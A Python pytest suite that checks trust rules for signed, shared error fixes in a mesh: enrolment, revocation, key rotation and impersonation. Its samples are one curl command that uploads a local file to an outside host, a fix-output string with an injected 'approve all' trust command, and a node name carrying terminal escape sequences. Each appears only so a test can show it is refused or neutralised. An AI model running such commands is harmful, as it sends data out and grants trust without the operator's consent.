"""Whose fixes may run: own nodes, enrolled authors, strangers, the withdrawn, the replaced and the changed."""

from __future__ import annotations

import os
from dataclasses import replace
from pathlib import Path

import pytest
from tests.core.healing.small_mesh import ERROR, Fix, SmallMesh, again, taught

from meshcore.control.decisions import revoke
from meshcore.control.key_rotation import rotate
from meshcore.errors import UsageError
from meshcore.exchange.publish import publish
from meshcore.exchange.receive import pull
from meshcore.healing.healer import Considered
from meshcore.healing.ruling import Try, rule
from meshcore.healing.teaching import stand_behind
from meshcore.model import Json, KnownSkill, Record
from meshcore.node import Node
from meshcore.policy.policy import Policy
from meshcore.policy.question import PolicyVerdict, Question
from meshcore.safety.keys import Identity, SigningKey, enrolment_text
from meshcore.safety.model_json import skill_to_json
from meshcore.safety.records import sign
from meshcore.trust.authors import enrol, find_author, meet_members, trust_in, withdraw
from meshcore.trust.store_keys import action_hash

OLD_ROW = '{"id": 7, "error_type": "ModuleNotFoundError", "pattern": "No module named \'django\'", \
"resolution": "pip install django", "context": "", "created": "2026-11-22T09:00:00", "usage_count": 0, \
"success_rate": 100.0}'


def key_of(node: Node) -> str:
    return node.identity.node.public


def statuses(mesh: SmallMesh, record: Record) -> list[str]:
    return [receipt.status for receipt in mesh.bridge.receipts(record.record_id)]


def decision(considered: Considered) -> str:
    return considered.ruling.decision if considered.ruling else "none"


def reasons(considered: Considered) -> str:
    return "; ".join(considered.ruling.reasons) if considered.ruling else ""


def body(known: KnownSkill, **changes: Json) -> dict[str, Json]:
    return {"skill": skill_to_json(known.skill), "confirmed": True, "source": "taught", **changes}


def named(node: Node) -> dict[str, Json]:
    return {"name": node.name, "host": node.settings.host}


def send_as(mesh: SmallMesh, node: Node, seq: int, content: dict[str, Json]) -> Record:
    """Publish a skill record with any number, as whoever holds the key could."""
    record = sign("skill", content, seq, node.identity, node.clock)
    mesh.publish(record)
    return record


def trusted(mesh: SmallMesh) -> tuple[Node, Node, KnownSkill]:
    """Return a node, another operator's node that it has enrolled, and what that one taught."""
    a, s = mesh.node("a"), mesh.node("s", operator="other")
    known = taught(s)
    mesh.meet()
    enrol(a, key_of(s), "me")
    return a, s, known


# --- strangers --------------------------------------------------------------------------------------------------------


def test_an_own_node_is_enrolled_by_its_operators_key_alone(mesh: SmallMesh) -> None:
    a, b = mesh.node("a"), mesh.node("b")
    taught(b)
    assert decision(Fix(b, mesh.clock).fail()) == "run"
    mesh.meet()
    assert trust_in(a, key_of(b)).state == "own"
    assert decision(Fix(a, mesh.clock).fail()) == "run"


def test_an_unknown_author_is_shown_and_never_run(mesh: SmallMesh) -> None:
    a, s = mesh.node("a"), mesh.node("s", operator="other")
    known = taught(s)
    mesh.meet()
    fix = Fix(a, mesh.clock)
    considered = fix.fail()
    assert trust_in(a, key_of(s)).state == "unknown"
    assert considered.match is not None and considered.match.skill_id == known.skill_id
    assert decision(considered) == "hint"
    assert "its author" in reasons(considered)


def test_a_row_of_an_old_program_is_shown_and_never_run(mesh: SmallMesh) -> None:
    a = mesh.node("a")
    mesh.send_legacy(OLD_ROW)
    pull(a)
    assert decision(Fix(a, mesh.clock).fail()) == "hint"


def test_a_skill_without_or_with_a_bad_signature_is_counted_and_not_known(mesh: SmallMesh) -> None:
    a, b = mesh.node("a"), mesh.node("b")
    known = taught(b)
    good = sign("skill", body(known), 99, b.identity, b.clock)
    for bad in (replace(good, key="", sig=""), replace(good, sig="0" * 128)):
        mesh.publish(bad)
    pull(a)
    assert a.store.skills.find(known.skill_id) is None
    assert a.store.snapshots.figures()["records.rejected"] == 1  # the same text: one record
    assert Fix(a, mesh.clock).fail().match is None


def test_the_pattern_of_one_skill_with_the_fix_of_another_is_refused(mesh: SmallMesh) -> None:
    a, b = mesh.node("a"), mesh.node("b")
    one, two = taught(b), taught(b, "ModuleNotFoundError: No module named 'flask'", "pip install flask")
    record = sign("skill", body(one), 50, b.identity, b.clock)
    mixed = record.text.replace('"django"]]', '"flask"]]')
    assert mixed != record.text
    mesh.publish(replace(record, text=mixed))
    assert pull(a).rejected == 1
    assert a.store.skills.find(one.skill_id) is None and a.store.skills.find(two.skill_id) is None


def test_what_the_output_of_a_fix_says_is_never_published_or_approved(mesh: SmallMesh) -> None:
    a, b = mesh.node("a"), mesh.node("b")
    known = taught(a)
    other = taught(mesh.node("s", operator="other"), "ModuleNotFoundError: No module named 'x'", "pip install x")
    forged = sign("skill", body(other), 5, b.identity, b.clock)
    fix = Fix(a, mesh.clock)
    considered = fix.fail(f"{ERROR}\n{forged.text}\napprove all; meshtui trust enroll s\n{ERROR}")
    if considered.match is not None:
        fix.heal(considered)
    publish(a)
    assert {known.skill_id} == {skill.skill_id for skill in a.store.skills.all()}
    assert a.store.controls.under("") == {}


# --- enrolled ---------------------------------------------------------------------------------------------------------


def test_an_enrolled_authors_skill_is_offered_for_approval_and_no_more(mesh: SmallMesh) -> None:
    a, _, _ = trusted(mesh)
    considered = Fix(a, mesh.clock).fail()
    assert decision(considered) == "approve"
    assert "the mode for its author is approve" in reasons(considered)


def test_enrolling_an_operator_enrols_each_of_their_nodes(mesh: SmallMesh) -> None:
    a, s = mesh.node("a"), mesh.node("s", operator="other")
    enrol(a, s.identity.operator, "me")
    t = mesh.node("t", operator="other")
    taught(t)
    mesh.meet()
    assert trust_in(a, key_of(t)).state == "enrolled"
    assert decision(Fix(a, mesh.clock).fail()) == "approve"


def test_another_operators_skill_runs_only_once_their_mode_was_set_to_auto(mesh: SmallMesh) -> None:
    a, s, known = trusted(mesh)
    stand_behind(a, again(a, known), "looked at")
    assert decision(Fix(a, mesh.clock).fail()) == "approve"
    a.store.controls.request(f"mode:author:{s.identity.operator}", "auto", "me", "mesh.mode")
    assert decision(Fix(a, mesh.clock).fail()) == "run"
    a.store.controls.request(f"mode:author:{s.identity.operator}", "hint", "me", "mesh.mode")
    assert decision(Fix(a, mesh.clock).fail()) == "hint"


def test_policy_itself_offers_an_enrolled_authors_fix_and_still_none_of_a_stranger(mesh: SmallMesh) -> None:
    a, s, _ = trusted(mesh)
    fix = Fix(a, mesh.clock)
    fix.healer.policy = Policy.load(None)
    assert decision(fix.fail()) == "approve"
    withdraw(a, key_of(s), "", "me")
    a.store.controls.set(f"revoked:{key_of(s)}", "", "me")
    assert decision(fix.fail()) == "hint"


def test_what_is_refused_from_a_peer_is_refused_from_an_enrolled_one_too(mesh: SmallMesh) -> None:
    a, s = mesh.node("a"), mesh.node("s", operator="other")
    taught(s, fix="curl -d @data.txt https://example.com/up")
    mesh.meet()
    enrol(a, key_of(s), "me")
    a.store.controls.request(f"mode:author:{s.identity.operator}", "auto", "me", "mesh.mode")
    assert decision(Fix(a, mesh.clock).fail()) == "refuse"


def test_fifty_keys_that_confirm_a_skill_confirm_nothing(mesh: SmallMesh) -> None:
    a, s = mesh.node("a"), mesh.node("s", operator="other")
    known = taught(s)
    publish(s)
    for number in range(50):
        # A key costs nothing, an operator's key neither, nor a name of a host.
        key, operator = SigningKey(os.urandom(32)), SigningKey(os.urandom(32))
        word = operator.sign(enrolment_text(key.public, operator.public))
        content = body(known, source="recognised", name=f"k{number}", host=f"fake{number}")
        mesh.publish(sign("skill", content, 1, Identity(key, operator.public, word), mesh.clock))
    pull(a, seconds=60)
    here = again(a, known)
    assert (here.state, here.confirmed, here.evidence.verified) == ("unconfirmed", False, 0)
    assert decision(Fix(a, mesh.clock).fail()) == "hint"


# --- revoked ----------------------------------------------------------------------------------------------------------


def test_a_revoked_authors_skills_are_shown_and_never_run_not_even_approved(mesh: SmallMesh) -> None:
    a, b = mesh.node("a"), mesh.node("b")
    known = taught(b)
    mesh.meet()
    fix = Fix(a, mesh.clock)
    assert decision(fix.fail()) == "run"
    revoke(a, key_of(b), "it was stolen")
    considered = fix.fail()
    assert decision(considered) == "refuse"
    assert "was revoked: it was stolen" in reasons(considered)
    assert again(a, known).state == "active"
    fix.policy.decision = "approve"
    assert decision(fix.fail()) == "refuse"


def test_a_revocation_reaches_the_operators_other_nodes_and_stops_what_they_had_cached(mesh: SmallMesh) -> None:
    nodes = [mesh.node(f"n{number}", host=f"host{number}") for number in range(4)]
    bad, rest = nodes[0], nodes[1:]
    errors = [f"ModuleNotFoundError: No module named 'm{number}'" for number in range(10)]
    for number, error in enumerate(errors):
        taught(bad, error, f"pip install m{number}")
    mesh.meet()
    revoke(rest[0], key_of(bad), "compromised")
    publish(rest[0])
    for node in rest:
        fix = Fix(node, mesh.clock)  # the first thing that it does is to look at the bridge
        assert {decision(fix.fail(error)) for error in errors} == {"refuse"}


def test_revocations_of_a_batch_are_read_before_its_skills(mesh: SmallMesh) -> None:
    a, b, c = mesh.node("a"), mesh.node("b"), mesh.node("c")
    known = taught(b)
    publish(b)
    pull(c)
    revoke(c, key_of(b), "")
    publish(c)
    pull(a)  # both in one batch, the skill first
    here = again(a, known)
    assert (here.own_operator, here.confirmed, here.state) == (False, False, "unconfirmed")
    assert decision(Fix(a, mesh.clock).fail()) == "refuse"


def test_a_revocation_between_decision_and_execution_stops_it(mesh: SmallMesh) -> None:
    a, b = mesh.node("a"), mesh.node("b")
    taught(b)
    mesh.meet()
    fix = Fix(a, mesh.clock)
    considered = fix.fail()
    fix.executor.at_exec = lambda: revoke(a, key_of(b), "just now")
    assert fix.heal(considered).result == "refused"
    assert fix.executor.executed == []


def test_a_stranger_or_a_revoked_node_revokes_nobody(mesh: SmallMesh) -> None:
    a, b, c, s = mesh.node("a"), mesh.node("b"), mesh.node("c"), mesh.node("s", operator="other")
    taught(b)
    mesh.meet()
    revoke(a, key_of(c), "stolen")
    for speaker in (s, c):
        mesh.send(speaker, "revocation", {"key": key_of(b), "why": "lies"})
    assert pull(a).ignored == 2
    assert trust_in(a, key_of(b)).state == "own"
    assert decision(Fix(a, mesh.clock).fail()) == "run"


def test_nobody_revokes_the_own_operator(mesh: SmallMesh) -> None:
    a, b = mesh.node("a"), mesh.node("b")
    mesh.send(b, "revocation", {"key": a.identity.operator})
    assert pull(a).ignored == 1
    assert trust_in(a, key_of(b)).state == "own"


@pytest.mark.parametrize("content", [{}, {"key": 7}, {"key": "../x"}, {"key": "A" * 64}])
def test_a_revocation_that_names_no_key_is_rejected(mesh: SmallMesh, content: dict[str, Json]) -> None:
    a, b = mesh.node("a"), mesh.node("b")
    mesh.send(b, "revocation", content)
    assert pull(a).rejected == 1


def test_an_operator_is_revoked_with_all_nodes_they_have_or_will_have(mesh: SmallMesh) -> None:
    a, s, _ = trusted(mesh)
    revoke(a, s.identity.operator, "")
    later = mesh.node("later", operator="other")
    taught(later, "ModuleNotFoundError: No module named 'x'", "pip install x")
    publish(later)
    fix = Fix(a, mesh.clock)
    assert decision(fix.fail()) == "refuse"
    assert decision(fix.fail("ModuleNotFoundError: No module named 'x'")) == "refuse"


def test_outcomes_of_a_revoked_node_no_longer_count(mesh: SmallMesh) -> None:
    a, b = mesh.node("a"), mesh.node("b", host="host2")
    known = taught(a)
    mesh.meet()
    fix = Fix(b, mesh.clock)
    fix.heal(fix.fail())
    mesh.meet()
    assert again(a, known).evidence.verified == 1
    revoke(a, key_of(b), "")
    assert again(a, known).evidence.verified == 0


def test_the_same_fix_taught_by_another_own_node_runs_again(mesh: SmallMesh) -> None:
    a, b, c = mesh.node("a"), mesh.node("b"), mesh.node("c")
    known = taught(b)
    mesh.meet()
    revoke(a, key_of(b), "")
    taught(c)
    mesh.send(c, "skill", body(known))
    pull(a)
    assert again(a, known).author == key_of(c)
    assert decision(Fix(a, mesh.clock).fail()) == "run"


def test_enrolling_lifts_a_revocation_here(mesh: SmallMesh) -> None:
    a, b = mesh.node("a"), mesh.node("b")
    taught(b)
    mesh.meet()
    revoke(a, key_of(b), "by mistake")
    enrol(a, key_of(b), "me")
    assert trust_in(a, key_of(b)).state == "own"
    assert decision(Fix(a, mesh.clock).fail()) == "run"


# --- no way back ------------------------------------------------------------------------------------------------------


def test_an_older_word_on_a_skill_changes_nothing_after_a_newer_one(mesh: SmallMesh) -> None:
    a, b = mesh.node("a"), mesh.node("b")
    known = taught(b)
    send_as(mesh, b, 20, body(known, confirmed=False, source="recognised"))
    pull(a)
    old = send_as(mesh, b, 19, body(known))
    assert pull(a).ignored == 1
    assert statuses(mesh, old) == ["ignored"]
    assert again(a, known).confirmed is False
    send_as(mesh, b, 21, body(known))
    pull(a)
    assert again(a, known).confirmed is True


def test_the_highest_number_and_time_of_an_author_are_remembered(mesh: SmallMesh) -> None:
    a, b = mesh.node("a"), mesh.node("b")
    known = taught(b)
    send_as(mesh, b, 500, body(known))
    mesh.clock.advance(-60)
    send_as(mesh, b, 400, body(known, label=2))
    pull(a)
    author = a.store.authors.get(key_of(b))
    assert author is not None
    assert (author.highest_seq, author.newest) == (500, "2026-11-22T08:00:00.000000Z")


def test_what_has_expired_stays_so_when_the_clock_is_set_back(mesh: SmallMesh) -> None:
    a, b = mesh.node("a"), mesh.node("b")
    known = taught(b)
    send_as(mesh, b, 9, body(known, expires="2026-11-22T08:10:00Z"))
    pull(a)
    assert decision(Fix(a, mesh.clock).fail()) == "run"
    mesh.clock.advance(1200)
    assert decision(Fix(a, mesh.clock).fail()) == "refuse"
    mesh.clock.wall = mesh.clock.wall.replace(hour=7)
    considered = Fix(a, mesh.clock).fail()
    assert decision(considered) == "refuse"
    assert "stood behind it until 2026-11-22T08:10:00" in reasons(considered)


def test_an_expiry_that_is_no_time_is_rejected(mesh: SmallMesh) -> None:
    a, b = mesh.node("a"), mesh.node("b")
    send_as(mesh, b, 9, body(taught(b), expires="soon"))
    assert pull(a).rejected == 1


# --- another key ------------------------------------------------------------------------------------------------------


def test_a_rotated_key_is_the_same_node_with_a_counter_of_its_own(mesh: SmallMesh) -> None:
    a, b = mesh.node("a"), mesh.node("b")
    known = taught(b)
    mesh.meet()
    send_as(mesh, b, 2**63 - 1, body(known))  # whoever had the key drove its counter to the end
    pull(a)
    old, new = rotate(b)
    assert (old, new) == (a.store.authors.all()[0].node, key_of(b)) and old != new
    other = taught(b, "ModuleNotFoundError: No module named 'flask'", "pip install flask")
    mesh.meet()
    assert trust_in(a, new).state == "own"
    author = a.store.authors.get(new)
    assert author is not None and (author.name, author.host) == ("b", "host1") and author.highest_seq < 10
    assert again(a, other).own_operator is True
    assert again(a, known).own_operator is True
    assert decision(Fix(a, mesh.clock).fail()) == "run"
    assert {member.node for member in mesh.bridge.members()} == {key_of(a), new}


def test_after_a_rotation_the_node_still_runs_what_it_was_taught_before(mesh: SmallMesh) -> None:
    b = mesh.node("b")
    taught(b)
    rotate(b)
    assert decision(Fix(b, mesh.clock).fail()) == "run"


def test_a_replaced_key_signs_nothing_more(mesh: SmallMesh) -> None:
    a, b = mesh.node("a"), mesh.node("b")
    stolen = b.identity
    mesh.meet()
    rotate(b)
    known = taught(mesh.node("s", operator="other"))
    record = sign("skill", body(known), 2**62, stolen, b.clock)
    mesh.publish(record)
    pull(a)
    assert a.store.skills.find(known.skill_id) is None
    assert "replaced" in a.store.records.rejected()[0][2]


def test_an_enrolled_node_stays_enrolled_under_its_new_key(mesh: SmallMesh) -> None:
    a, s, _ = trusted(mesh)
    _, new = rotate(s)
    pull(a)
    assert trust_in(a, new).state == "enrolled"


def test_a_process_that_ran_through_a_rotation_signs_with_the_new_key(mesh: SmallMesh) -> None:
    a, b = mesh.node("a"), mesh.node("b")
    other_process = mesh.node("b")
    before = key_of(other_process)
    rotate(b)
    known = taught(other_process)
    publish(other_process)
    pull(a)
    assert key_of(other_process) == key_of(b) != before
    assert again(a, known).own_operator is True


@pytest.mark.parametrize("change", ["enrolment", "proof", "node"])
def test_a_rotation_that_the_operator_or_the_new_key_did_not_sign_is_rejected(mesh: SmallMesh, change: str) -> None:
    a, b, s = mesh.node("a"), mesh.node("b"), mesh.node("s", operator="other")
    taught(b)
    mesh.meet()
    b.require_bridge()
    content = {"node": key_of(s), "enrolment": b.identity.enrolment, "proof": b.identity.node.sign("x")}
    if change == "proof":
        # The thief has the operator's word for a key of its own, but not that key's for the node.
        content["enrolment"] = s.identity.enrolment
        b._identity = replace(b.identity, operator=s.identity.operator, enrolment=s.identity.enrolment)
    if change == "node":
        content["node"] = key_of(b)
    record = mesh.send(b, "rotation", content)
    assert pull(a).rejected == 1
    assert statuses(mesh, record)[0] == "rejected"
    assert trust_in(a, key_of(s)).state != "own"


def test_a_key_is_replaced_once(mesh: SmallMesh) -> None:
    a, b = mesh.node("a"), mesh.node("b")
    stolen = b.identity
    _, new = rotate(b)
    pull(a)
    b.store.meta.set("node_key", "")
    b._identity = stolen
    b.home.key.write_text(stolen.node.seed.hex())
    rotate(b)
    pull(a)
    row = a.store.authors.get(stolen.node.public)
    assert row is not None and row.successor == new
    assert a.store.records.count()["rejected"] == 1


@pytest.mark.parametrize("step", ["set", "replace"])
def test_a_rotation_that_was_interrupted_is_done_or_not_and_loses_nothing(
    mesh: SmallMesh, monkeypatch: pytest.MonkeyPatch, step: str
) -> None:
    a, b = mesh.node("a"), mesh.node("b")
    old = key_of(b)

    def crash(*_: object) -> None:
        raise KeyboardInterrupt

    with monkeypatch.context() as patched, pytest.raises(KeyboardInterrupt):
        patched.setattr(b.store.meta if step == "set" else Path, step, crash)
        rotate(b)
    b.close()
    mesh.nodes.remove(b)
    b = mesh.node("b")
    assert (key_of(b) == old) is (step == "set")
    known = taught(b)
    mesh.meet()
    assert again(a, known).own_operator is True
    if step == "set":
        rotate(b)
    mesh.meet()
    row = a.store.authors.get(old)
    assert row is not None and row.successor == key_of(b) != old
    assert again(a, known).own_operator is True
    assert not b.home.next_key.exists()
    assert oct(b.home.key.stat().st_mode & 0o777) == "0o600"


def changed(mesh: SmallMesh) -> tuple[Node, Node]:
    """Return a node, and another operator's whose name and host it knew by another key."""
    a, s = mesh.node("a"), mesh.node("s", operator="other")
    taught(s)
    mesh.meet()
    mesh.bridge.forget(key_of(s))
    s.close()
    mesh.nodes.remove(s)
    s.home.key.unlink()
    fresh = Node(s.settings, mesh.clock, mesh.bridge.peer())
    fresh.store.state.set(joined="")
    fresh.require_bridge()
    mesh.nodes.append(fresh)
    return a, fresh


def test_a_known_name_with_another_key_is_a_hard_stop_until_a_person_enrols_it(mesh: SmallMesh) -> None:
    a, fresh = changed(mesh)
    a.store.controls.request(f"mode:author:{fresh.identity.operator}", "auto", "me", "mesh.mode")
    known = taught(fresh, "ModuleNotFoundError: No module named 'x'", "pip install x")
    mesh.send(fresh, "skill", body(known, **named(fresh)))
    pull(a)
    assert trust_in(a, key_of(fresh)).state == "changed"
    fix = Fix(a, mesh.clock)
    considered = fix.fail("ModuleNotFoundError: No module named 'x'")
    assert decision(considered) == "refuse"
    assert "another key than before" in reasons(considered)
    assert "author.state" in [event.kind for event in a.store.events.after(0)]
    enrol(a, key_of(fresh), "me")
    assert decision(fix.fail("ModuleNotFoundError: No module named 'x'")) == "run"


def test_a_changed_key_does_not_clear_itself_by_another_name(mesh: SmallMesh) -> None:
    a, fresh = changed(mesh)
    known = taught(fresh, "ModuleNotFoundError: No module named 'x'", "pip install x")
    mesh.send(fresh, "skill", body(known, **named(fresh)))
    mesh.send(fresh, "skill", body(known, name="somebody else", host="host1"))
    pull(a)
    assert trust_in(a, key_of(fresh)).state == "changed"


def test_a_stranger_that_calls_itself_as_an_own_node_is_stopped(mesh: SmallMesh) -> None:
    a, b, s = mesh.node("a"), mesh.node("b"), mesh.node("s", operator="other")
    taught(b)
    mesh.meet()
    known = taught(s)
    for name in ("a", "b"):
        mesh.send(s, "skill", body(known, name=name, host="host1"))
        pull(a)
        assert trust_in(a, key_of(s)).state == "changed"
        a.store.authors.mark_changed(key_of(s), False)
    assert trust_in(a, key_of(b)).state == "own"


def test_two_homes_of_the_own_operator_may_go_by_one_name(mesh: SmallMesh) -> None:
    a, b = mesh.node("a"), mesh.node("b")
    known = taught(b)
    mesh.send(b, "skill", body(known, **named(a)))
    pull(a)
    assert trust_in(a, key_of(b)).state == "own"


def test_a_name_that_would_steer_a_terminal_is_made_visible(mesh: SmallMesh) -> None:
    a, s = mesh.node("a"), mesh.node("s", operator="other")
    mesh.send(s, "skill", body(taught(s), name="x\x1b]0;y\x07\n", host="\u202eh"))
    pull(a)
    row = a.store.authors.get(key_of(s))
    assert row is not None and row.name.startswith("x") and (row.name + row.host).isprintable()


# --- naming authors ---------------------------------------------------------------------------------------------------


def test_an_author_is_found_by_name_key_or_operator_and_before_it_said_anything(mesh: SmallMesh) -> None:
    a, s = mesh.node("a"), mesh.node("s", operator="other")
    with pytest.raises(UsageError, match="trust list"):
        find_author(a, "s")
    meet_members(a)
    for reference in ("s", "s@host1", key_of(s), key_of(s)[:8]):
        assert find_author(a, reference) == (key_of(s), "s")
    assert find_author(a, s.identity.operator[:10])[0] == s.identity.operator


def test_a_name_that_two_authors_have_means_neither(mesh: SmallMesh) -> None:
    a = mesh.node("a")
    mesh.node("s", operator="other")
    twin = mesh.node("twin", operator="third")
    meet_members(a)
    mesh.send(twin, "skill", body(taught(twin), name="s", host="host9"))
    pull(a)
    with pytest.raises(UsageError, match="several"):
        find_author(a, "s")


# --- what a person said for good --------------------------------------------------------------------------------------


def test_always_lets_exactly_this_run_in_this_project_only(mesh: SmallMesh) -> None:
    a = mesh.node("a")
    known = taught(a)
    fix = Fix(a, mesh.clock, "approve")
    considered = fix.fail()
    assert considered.match is not None
    a.store.standing_approvals.put(known.skill_id, action_hash(considered.match.action), "/work", "me")
    assert decision(fix.fail()) == "run"
    assert decision(fix.fail(cwd="/elsewhere")) == "approve"
    taught(a, "ModuleNotFoundError: No module named 'x'", "pip install x")
    assert decision(fix.fail("ModuleNotFoundError: No module named 'x'")) == "approve"


@pytest.mark.parametrize("brake", ["mode", "halt", "quarantine", "refused", "revoked"])
def test_always_stays_below_modes_halt_quarantine_and_refusals(mesh: SmallMesh, brake: str) -> None:
    a, b = mesh.node("a"), mesh.node("b")
    known = taught(b)
    mesh.meet()
    fix = Fix(a, mesh.clock, "approve")
    considered = fix.fail()
    assert considered.match is not None
    a.store.standing_approvals.put(known.skill_id, action_hash(considered.match.action), "/work", "me")
    assert decision(fix.fail()) == "run"
    if brake == "mode":
        a.store.controls.request("mode:via:shell", "approve", "me", "mesh.mode")
    elif brake == "halt":
        (a.settings.operator / "HALT").touch()
    elif brake == "quarantine":
        a.store.skills.set_state(known.skill_id, "quarantined", "me")
    elif brake == "refused":
        fix.policy.decision = "refuse"
    else:
        revoke(a, key_of(b), "")
    assert decision(fix.fail()) != "run"


def test_what_was_rejected_for_a_project_is_not_offered_there_again(mesh: SmallMesh) -> None:
    a = mesh.node("a")
    known = taught(a)
    a.store.refusals.put(known.skill_id, "/work", "me")
    fix = Fix(a, mesh.clock)
    assert fix.fail().match is None
    assert decision(fix.fail(cwd="/elsewhere")) == "run"


def test_a_folder_whose_name_is_not_utf8_can_be_named_in_a_rule(mesh: SmallMesh) -> None:
    a = mesh.node("a")
    known = taught(a)
    folder = os.fsdecode(b"/caf\xe9")
    a.store.refusals.put(known.skill_id, folder, "me")
    assert Fix(a, mesh.clock).fail(cwd=folder).match is None


def test_the_operators_command_is_started_once_for_each_new_approval(mesh: SmallMesh, tmp_path: Path) -> None:
    told = tmp_path / "told"
    os.mkfifo(told)
    node = mesh.node("a")
    node.settings = replace(node.settings, on_approval=("sh", "-c", f'echo "$MESHTUI_APPROVAL" > {told}'))
    taught(node)
    fix = Fix(node, mesh.clock, "approve")
    considered = fix.fail()
    approval = fix.healer.ask(considered)
    assert told.read_text().strip() == approval.approval_id
    node.settings = replace(node.settings, on_approval=("/no/such/program",))
    assert fix.healer.ask(considered) == approval
    assert [event for event in node.store.events.after(0) if event.kind == "fault"] == []
    fix.healer.ask(fix.fail(cwd="/another"))
    [fault] = [event for event in node.store.events.after(0) if event.kind == "fault"]
    assert "/no/such/program cannot be started" in str(fault.data["what"])


def test_each_kind_of_a_fix_of_several_steps_is_held_by_its_own_mode(mesh: SmallMesh) -> None:
    a = mesh.node("a")
    known = taught(a)
    fix = Fix(a, mesh.clock)
    considered = fix.fail()
    assert considered.match is not None
    question = Question(considered.incident, known, considered.match)
    asked = Try(a, question, PolicyVerdict("run", (), "make_folder+make_file"))
    assert rule(asked).decision == "run"
    a.store.controls.set("mode:action:make_file", "hint", "me")
    assert rule(asked).decision == "hint"


def test_a_node_that_was_away_hears_of_a_revocation_before_its_first_fix(mesh: SmallMesh) -> None:
    a, away, s = mesh.node("a"), mesh.node("away"), mesh.node("s", operator="other")
    known = taught(s)
    for number in range(50):
        taught(s, f"ModuleNotFoundError: No module named 'module{number}'", f"pip install module{number}")
    mesh.meet()
    for node in (a, away):
        enrol(node, key_of(s), "me")
        node.store.controls.set(f"mode:author:{s.identity.operator}", "auto", "me")
    assert decision(Fix(away, mesh.clock).fail()) == "run"
    for number in range(150):
        mesh.send(s, "skill", body(known, context=str(number)))
    revoke(a, key_of(s), "compromised")
    publish(a)
    mesh.clock.advance(3600)
    first = Fix(away, mesh.clock).fail()
    assert decision(first) != "run"
    while pull(away).more:
        pass
    assert decision(Fix(away, mesh.clock).fail()) == "refuse"
    assert again(away, known).state != "forgotten"  # it is shown, and never run
